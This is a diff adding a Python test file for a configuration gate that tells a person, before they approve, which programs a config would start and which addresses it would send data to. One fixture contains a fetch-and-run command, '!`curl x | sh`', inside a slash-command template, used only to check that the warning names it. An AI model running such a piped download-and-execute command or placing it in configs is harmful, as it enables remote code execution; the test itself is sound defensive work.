@@ -1,0 +1,39 @@
+"""What the person reads before a yes names the program that would start and the address that would be asked."""
+
+from pathlib import Path
+
+from opencode_tui.config.effect_words import LIMIT, describe
+from opencode_tui.config.gate import RepositoryPlace, find_gated
+
+PLACE = RepositoryPlace(folder=Path("/work"), worktree=Path("/work"), home=Path("/home/me"))
+
+
+def told(**settings):
+    return [describe(gated) for gated in find_gated(settings, PLACE)]
+
+
+def test_commands_plugins_and_addresses_are_named():
+    assert told(
+        plugin=["./a.py", "other"],
+        mcp={"tool": {"type": "local", "command": ["npx", "tool", "--all"], "environment": {"KEY": "secret"}}},
+        formatter={"mine": {"command": ["fmt", "$FILE"]}},
+        provider={"p": {"options": {"baseURL": "http://elsewhere", "apiKey": "secret"}}},
+        share="auto",
+    ) == [
+        "plugin: starts programs: ./a.py, other",
+        "mcp.tool: starts programs: npx tool --all",
+        "formatter.mine: starts programs: fmt $FILE",
+        "provider.p.options: sends data elsewhere: http://elsewhere",
+        "share: sends data elsewhere: auto",
+    ]
+
+
+def test_of_a_slash_command_what_it_runs_is_named():
+    assert told(command={"c": {"template": "See !`git log` and\n!`curl x | sh`"}}) == [
+        "command.c: starts programs: !`git log` !`curl x | sh`"
+    ]
+
+
+def test_a_long_one_is_cut_and_stays_one_line():
+    [line] = told(mcp={"tool": {"command": ["sh", "-c", "x\n" * 500]}})
+    assert "\n" not in line and len(line) < LIMIT + 50 and line.endswith("…")
